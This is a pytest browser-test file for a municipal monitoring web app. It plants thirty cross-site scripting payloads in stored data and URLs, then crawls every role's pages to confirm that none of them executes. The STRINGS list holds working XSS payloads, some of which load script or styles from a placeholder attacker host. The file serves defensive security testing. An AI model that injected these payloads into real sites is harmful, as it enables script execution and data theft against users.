"""Stored and reflected scripts: thirty strings in every text that somebody else may write, and every page read in
Chromium. Nothing of them may become more than text.

The crawl goes with the Content-Security-Policy switched off, so that escaping alone has to hold; a shorter one goes
with it on and may not meet a single violation.
"""

import re
import shutil
import sqlite3
from collections import Counter, deque
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from itertools import count
from urllib.parse import quote, urlsplit

import pytest
from sqlalchemy import insert

from data import tables
from data.accounts import find_account, person
from data.engine import engine_for, reading, writing
from data.jejak import Kejadian, Pelaku, append
from data.kiriman import TEXTS, Alamat, Periksa, save_draft, submit, write_texts
from data.petaan import remember_mapping
from data.putusan import CatatanBaris, give_back
from data.queries.kiriman import one_version
from data.sesi import Asal, Tahap, start_session
from data.siklus import extend
from data.store import Muatan
from data.tautan import Guna, make_link
from data.umur import Umur
from data.words import Tindakan
from tests.conftest import CAST
from tests.journeys.conftest import serving

pytestmark = pytest.mark.browser
PEMDA, PUPR = "16.71", "1.03.0.00.0.00.01.0000"
FOREIGN = "https://jahat.invalid"
RETURNED, WAITING, DRAFT = 1, 2, 3
# Each says its own number, so a hit tells which one it was, and so does every screen that shows it as text.
STRINGS = (
    "<script>__xss=0</script>",
    "<ScRiPt/x>__xss=1</sCrIpT>",
    f"<script src={FOREIGN}/?__xss=2></script>",
    "<img src=x onerror=__xss=3>",
    "<img src=x onerror='__xss=4'//",
    "<svg onload=__xss=5>",
    "<svg><script>__xss=6</script></svg>",
    "<svg><a xlink:href='javascript:__xss=7'><text y=20>klik</text></a></svg>",
    "<svg><animate onbegin=__xss=8 attributeName=x dur=1s>",
    "javascript:__xss=9",
    "JaVaScRiPt&colon;__xss=10",
    "\x01java\tscript:__xss=11//",
    '" onmouseover="__xss=12" autofocus onfocus="__xss=12',
    "' onfocus='__xss=13' autofocus x='",
    "` onfocus=__xss=14 autofocus `",
    '"><details open ontoggle=__xss=15>',
    "</title><script>__xss=16</script>",
    "</textarea></style><script>__xss=17</script>",
    "]]><script>__xss=18</script><![CDATA[",
    "--><script>__xss=19</script><!--",
    "{{constructor.constructor('__xss=20')()}}${__xss=20}<%= __xss=20 %>",
    "\\u003cscript\\u003e__xss=21\\u003c/script\\u003e\\x3cimg src=x onerror=__xss=21\\x3e",
    "&lt;script&gt;__xss=22&lt;/script&gt;&#60;img src=x onerror=__xss=22&#62;",
    "data:text/html,<script>__xss=23</script>",
    "<iframe srcdoc='<script>parent.__xss=24</script>'></iframe>",
    "<a href=javascript:__xss=25>klik</a><form action=javascript:__xss=25><button>klik</button></form>",
    f"</style><style>@import '{FOREIGN}/?__xss=26';body{{background:url({FOREIGN}/?__xss=26)}}</style>",
    f"<base href={FOREIGN}/><meta http-equiv=refresh content='0;url={FOREIGN}/?__xss=27'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__xss=28&gt;'>",
    "\uff1cscript\uff1e__xss=29\uff1c/script\uff1e\u202e<noscript><p title='</noscript><img src=x onerror=__xss=29>'>",
)
ALL = " ".join(STRINGS)
# Every column that holds words of people or files. Codes are keys and are checked when they come in.
COLUMNS = {
    "opd": ("nama", "singkat"),
    "node": ("nama", "sumber_dana"),
    "indikator": ("nama", "satuan", "satuan_asli", "definisi", "sumber"),
    "target": ("asli", "kolom"),
    "realisasi": ("asli", "keterangan", "kendala", "kolom"),
    "laporan": ("tanggapan", "faktor_pendorong", "faktor_penghambat", "tindak_lanjut", "alasan_nihil"),
    "unggahan": ("nama_berkas", "keterangan", "oleh", "sha256"),
    "pengguna": ("nama_tampil",),
}
# What no string of ours may turn into, in the document as it stands at the end.
LOOK = """(strings) => {
  const bad = [], address = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"];
  for (const one of document.querySelectorAll("*")) {
    const name = one.tagName.toLowerCase();
    // The page that offers embeds shows one of our own.
    const own = name === "iframe" && (one.src || "").startsWith(location.origin + "/sematan/");
    if (["iframe", "object", "embed", "base", "math", "animate", "noscript"].includes(name) && !own) bad.push(name);
    if (name === "meta" && one.httpEquiv) bad.push("meta " + one.httpEquiv);
    // A block of data runs nothing, as long as nothing in it can end it.
    const harmless = one.type === "application/json" && !one.textContent.includes("<");
    if (["script", "style"].includes(name) && !harmless && one.textContent.includes("__xss"))
      bad.push(name + " " + one.textContent);
    for (const { name: what, value } of one.attributes) {
      const plain = value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
      if (what.startsWith("on") || what === "srcdoc") bad.push(name + " " + what + "=" + value.slice(0, 80));
      if (address.includes(what) && /^(javascript|vbscript|data:text)/.test(plain)) bad.push(name + " " + value);
    }
  }
  const links = [...document.querySelectorAll("a[href]")].map((one) => one.href);
  const texts = new Set([...document.querySelectorAll("body *")].map((one) => one.textContent));
  return { bad, links, seen: strings.flatMap((text, number) => (texts.has(text) ? [number] : [])) };
}"""
WATCH = """
const later = window.setTimeout;  // a page that draws an error takes over after four seconds: here after a tenth
window.setTimeout = (deed, wait, ...more) => later(deed, wait === 4000 ? 400 : wait, ...more);
Object.defineProperty(window, "__xss", { set: (value) => window.__kena("dijalankan: " + value), get: () => undefined });
document.addEventListener("securitypolicyviolation",
  (event) => window.__kena("CSP: " + event.violatedDirective + " " + event.blockedURI + " " + event.sample));
"""


@dataclass
class Situs:
    """The poisoned site: its address, the database behind it, and a one-time link that lives."""

    address: str
    url: str
    link: str


@dataclass
class Temuan:
    """What a crawl has met."""

    visited: list[str] = field(default_factory=list)
    holes: list[str] = field(default_factory=list)
    seen: set[int] = field(default_factory=set)
    shapes: Counter[tuple] = field(default_factory=Counter)
    """How often a shape of address was followed, by all people together: what differs by person is in the seeds."""


def poison(path):
    """Put the strings into every text of the database, one after the other."""
    number = count()
    conn = sqlite3.connect(path)
    conn.create_function("racun", 0, lambda: STRINGS[next(number) % len(STRINGS)])
    for table, columns in COLUMNS.items():
        conn.execute(f"UPDATE {table} SET " + ", ".join(f"{column} = racun()" for column in columns))
    conn.execute("UPDATE pemda SET nama = ?, catatan = ?", (ALL, ALL))
    conn.execute("UPDATE pengguna SET nama_tampil = ? WHERE nama IN ('sekda', 'operator-a')", (ALL,))
    conn.commit()
    conn.close()


def poison_cycle(engine):
    """Everything an operator and Bappeda write on the way of a report: returned once, sent again, and a draft."""
    here, sender = Alamat(2026, 3, PUPR), Pelaku("operator-a", "opd", PUPR)
    extend(engine, PEMDA, Pelaku("bappeda", "bappeda"), 2026, 3, PUPR, datetime.now(UTC) + timedelta(days=2), ALL[:500])
    remember_mapping(engine, PEMDA, sender, PUPR, {text[:120]: "realisasi" for text in STRINGS})
    with engine.execution_options(menulis=True).begin() as conn:
        conn.execute(insert(tables.libur), [{"pemda": PEMDA, "tanggal": date(2026, 6, 16), "nama": ALL[:120]}])
        people = {"pemda": PEMDA, "opd": PUPR, "surel": "a@contoh.id", "sebutan": ALL[:120]}
        conn.execute(insert(tables.kontak), [people])
    for nomor in (RETURNED, WAITING, DRAFT):
        made = save_draft(engine, PEMDA, sender, here, _poisoned_file(nomor))
        assert made == nomor, "the first versions of an empty table"
        write_texts(engine, PEMDA, here, nomor, dict.fromkeys(TEXTS, ALL[:2000]))
        if nomor == DRAFT:
            continue
        with reading(engine) as conn:
            token = one_version(conn, PEMDA, nomor)["sekali"]
        submit(engine, PEMDA, sender, here, token)
        if nomor == RETURNED:
            notes = [CatatanBaris(at + 5, text) for at, text in enumerate(STRINGS)]
            give_back(engine, PEMDA, Pelaku("bappeda", "bappeda"), nomor, ALL[:2000], notes)


def _poisoned_file(nomor):
    found = [
        {"tingkat": tingkat, "aturan": "uji" if tingkat == "Konfirmasi" else text, "pesan": text, "perbaikan": text}
        | {"baris": at + 5, "kolom": 5, "nama_kolom": "Fisik" if tingkat == "Konfirmasi" else text, "nilai": text}
        for at, text in enumerate(STRINGS)
        for tingkat in ("Konfirmasi", "Info")
    ]
    head = {"baris": 4, "dikenali": dict.fromkeys(STRINGS, "realisasi"), "pilihan": {}, "kurang": [], "lain": []}
    rows = Muatan(
        realisasi=[
            {"tahun": 2026, "opd": PUPR, "indikator": "1.03.10#1", "periode": 3, "teks": ALL, "asli": ALL, "baris": 5}
        ]
    )
    told = {"kepala": head, "petaan": {}, "keterangan": ALL, "pertanyaan": []}
    return Periksa(ALL[:200], f"{nomor:064d}", 10, 30, 0, len(STRINGS), {}, found, rows, told)


def poison_trail(engine):
    """Events as they come in from outside: strange names, objects, details and browsers."""
    for text in STRINGS:
        with writing(engine) as conn:
            event = Kejadian(Tindakan.MASUK, text, {"perangkat": text, "cara": text, text: text})
            append(conn, PEMDA, Pelaku(text, text[:10], text[:40], text), event)
    for nama, *_ in CAST:
        with writing(engine) as conn:
            append(
                conn, PEMDA, Pelaku(nama, "opd", ALL[:40], ALL[:64]), Kejadian(Tindakan.MASUK_GAGAL, ALL, {"cara": ALL})
            )


def new_session(url, nama, tahap=Tahap.PENUH, agent="uji"):
    with writing(engine_for(url)) as conn:
        orang = person(find_account(conn, PEMDA, nama))
        umur = Umur(timedelta(hours=1), timedelta(hours=8))
        return start_session(conn, PEMDA, orang, tahap, umur, Asal(agent[:64], agent))


@pytest.fixture(scope="module")
def poisoned(city_file, tmp_path_factory):
    path = tmp_path_factory.mktemp("racun") / "kota.db"
    shutil.copy(city_file, path)
    poison(path)
    url = f"sqlite:///{path}"
    poison_trail(engine_for(url))
    poison_cycle(engine_for(url))
    for nama in ("sekda", "admin", "operator-a"):
        for text in STRINGS:
            new_session(url, nama, agent=text)
    with writing(engine_for(url)) as conn:
        link = make_link(conn, PEMDA, "operator-a", Guna.UNDANGAN, "admin")
    with serving(path, EMONEV_MODE="pengembangan") as address:
        yield Situs(address, url, f"/undangan/{link}")


@contextmanager
def opened(browser, situs, found, nama="", tahap=Tahap.PENUH, csp=False, own_scripts=True):
    """A page that reports whatever runs and whatever is asked of others. Without our scripts only the server's first
    view is left, and inline scripts still could run."""
    context = browser.new_context(bypass_csp=not csp)
    context.expose_function("__kena", lambda what: found.holes.append(f"{page.url}: {what}"))
    context.add_init_script(WATCH)
    # Watched, not routed: routing switches the browser's cache off, and every page would fetch all scripts anew. The
    # foreign address resolves nowhere by its name.
    context.on("request", lambda request: mind(request, situs, found))
    if not own_scripts:
        context.route("**/*.js*", lambda route: route.abort())
    if nama:
        token = new_session(situs.url, nama, tahap)
        context.add_cookies([{"name": "emonev_sesi", "value": token, "url": situs.address}])
    page = context.new_page()
    page.on("dialog", lambda dialog: (found.holes.append(f"{page.url}: dialog"), dialog.dismiss()))
    yield page
    context.close()


def mind(request, situs, found):
    """Only what is ours may be asked for."""
    if not request.url.startswith((f"{situs.address}/", "data:", "blob:")):
        found.holes.append(f"asks for {request.url}")


def look(page, found):
    """The document as it stands, once the live page has taken over where there is one."""
    if page.evaluate("!!window.emonev && !!document.getElementById('tampilan-hidup')"):
        page.wait_for_selector("html[data-siap]", state="attached", timeout=20_000)
    said = page.evaluate(LOOK, STRINGS)
    found.visited.append(page.url)
    found.holes += [f"{page.url}: {one}" for one in said["bad"]]
    found.seen |= set(said["seen"])
    return said["links"]


def shape(address):
    """Addresses of one shape differ in values only; a few of each are enough."""
    parts = urlsplit(address)
    names = sorted(pair.split("=")[0] for pair in parts.query.split("&"))
    return parts.path.split("/")[1], len(parts.path.split("/")), tuple(names)


DOWNLOAD = re.compile(r"\.(csv|xlsx|pdf)$|/berkas$")


def crawl(page, situs, found, seeds, most, each=1):
    """Every seed, then links as they are found: at most ``each`` of one shape and ``most`` pages in all."""
    waiting, known, shapes = deque(situs.address + seed for seed in seeds), set(), found.shapes
    while waiting and len(known) < most + len(seeds):
        address = waiting.popleft()
        if address in known:
            continue
        known.add(address)
        page.goto(address, wait_until="load")
        for link in look(page, found):
            link = link.split("#")[0]
            if not link.startswith(f"{situs.address}/") or DOWNLOAD.search(urlsplit(link).path):
                continue
            if link not in known and shapes[shape(link)] < each:
                shapes[shape(link)] += 1
                waiting.append(link)


ODD = quote(ALL[:100])
PUBLIC = (
    "/?tahun=2026&tw=3",
    f"/opd/{PUPR}?tahun=2026&tw=3",
    f"/opd/{PUPR}?tahun=2026&tw=2&program=1.03.10",
    "/metodologi",
    f"/masuk?next={ODD}&opd={ODD}",
    f"/opd/{ODD}",
    f"/{ODD}",
    f"/?tahun={ODD}&tw={ODD}",
    f"/opd/{PUPR}?program={quote(STRINGS[12])}",
    f"/undangan/{ODD}",
)
LEADERS = (
    "/pimpinan?tahun=2026&tw=3",
    f"/pimpinan?tahun=2026&tw=3&opd={PUPR}&indikator=1.03.10%231",
    f"/pimpinan?tahun=2026&tw=3&opd={PUPR}&program=1.03.10",
    f"/pimpinan?opd={ODD}",
    "/akun",
)
ADMIN = (
    "/kelola/akun",
    "/kelola/akun/sekda",
    "/kelola/akun/operator-a",
    "/kelola/jejak",
    "/kelola/jejak?periksa=1",
    "/kelola/undang",
    f"/kelola/akun?cari={ODD[:80]}",
    f"/kelola/jejak?pelaku={quote(STRINGS[12])}",
    f"/kelola/jejak?dari={ODD}",
    f"/kelola/akun/{ODD}",
    "/akun",
)
BAPPEDA = (
    "/akun",
    "/kelola/akun",
    "/verifikasi?tahun=2026&tw=3",
    f"/verifikasi/{RETURNED}",
    f"/verifikasi/{WAITING}",
    "/kelola/kalender?tahun=2026",
    "/kelola/kontak",
    "/kelola/rencana",
    f"/verifikasi?keadaan={ODD[:60]}",
)
OPERATOR = (
    "/akun",
    "/pimpinan",
    "/kelola/jejak",
    "/unggah?tahun=2026&tw=3",
    f"/unggah/draf/{DRAFT}",
    f"/unggah/versi/{RETURNED}",
    "/unggah/isi?tahun=2026&tw=3",
    f"/unggah?tahun={ODD[:60]}",
    f"/tanda-terima?nomor={ODD[:40]}&sha={ODD[:40]}",
)
ROLES = {
    "": (PUBLIC, 6),
    "sekda": (LEADERS, 6),
    "bappeda": (BAPPEDA, 2),
    "operator-a": (OPERATOR, 2),
    "admin": (ADMIN, 4),
}


def test_the_watch_sees_what_runs(browser, poisoned):
    """A page that does not escape is caught, so silence elsewhere means something."""
    found = Temuan()
    with opened(browser, poisoned, found) as page:
        page.goto(f"{poisoned.address}/masuk")
        text = "".join(STRINGS[number] for number in (3, 5, 24, 25, 26))
        page.evaluate("(text) => document.querySelector('main').insertAdjacentHTML('beforeend', text)", text)
        page.wait_for_timeout(500)
        look(page, found)
    said = " ".join(found.holes)
    for sign in (
        "dijalankan: 3",
        f"asks for {FOREIGN}",
        "img onerror",
        "javascript:__xss=25",
        "iframe",
    ):
        assert sign in said


def test_nothing_stored_runs_on_the_live_pages(browser, poisoned, record_property):
    found = Temuan()
    for nama, (seeds, more) in ROLES.items():
        with opened(browser, poisoned, found, nama) as page:
            crawl(page, poisoned, found, (*seeds, poisoned.link) if not nama else seeds, more)
    record_property("angka", f"stored scripts: {len(found.visited)} live pages read, {len(found.seen)} strings shown")
    assert found.holes == []
    assert found.seen == set(range(len(STRINGS))), "a string nobody shows proves nothing"


def test_nothing_stored_runs_in_the_first_view(browser, poisoned):
    found = Temuan()
    for nama, (seeds, more) in ROLES.items():
        with opened(browser, poisoned, found, nama, own_scripts=False) as page:
            crawl(page, poisoned, found, seeds, more // 3)
    assert found.holes == []
    assert found.seen == set(range(len(STRINGS)))


def test_the_policy_has_nothing_to_forbid(browser, poisoned):
    found = Temuan()
    for nama, seeds in (("", PUBLIC[:3]), ("sekda", LEADERS[:2]), ("admin", ADMIN[:4])):
        with opened(browser, poisoned, found, nama, csp=True) as page:
            crawl(page, poisoned, found, seeds, 0)
    assert found.holes == []


@pytest.mark.parametrize("tahap", [Tahap.KODE, Tahap.PASANG])
def test_nothing_runs_between_the_steps(browser, poisoned, tahap):
    found = Temuan()
    with opened(browser, poisoned, found, "sekda", tahap) as page:
        crawl(page, poisoned, found, [f"/masuk/{tahap.value}?next={ODD}"], 0)
    assert found.holes == []


def test_what_is_typed_comes_back_as_text(browser, poisoned):
    found = Temuan()
    with opened(browser, poisoned, found) as page:
        for text in STRINGS[12:16]:
            page.goto(f"{poisoned.address}/masuk")
            page.get_by_label("Nama pengguna").fill(text)
            page.get_by_label("Kata sandi").fill(text)
            page.get_by_role("button", name="Masuk", exact=True).click()
            page.get_by_role("alert").first.wait_for()
            look(page, found)
    with opened(browser, poisoned, found, "admin") as page:
        page.goto(f"{poisoned.address}/kelola/undang")
        form = page.locator("main form[action='/kelola/undang']")
        form.evaluate(
            "(form, text) => ['nama', 'sebutan'].forEach((name) => (form.elements[name].value = text))", ALL[:200]
        )
        form.evaluate("(form) => HTMLFormElement.prototype.submit.call(form)")
        page.get_by_role("alert").first.wait_for()
        look(page, found)
    assert found.holes == []
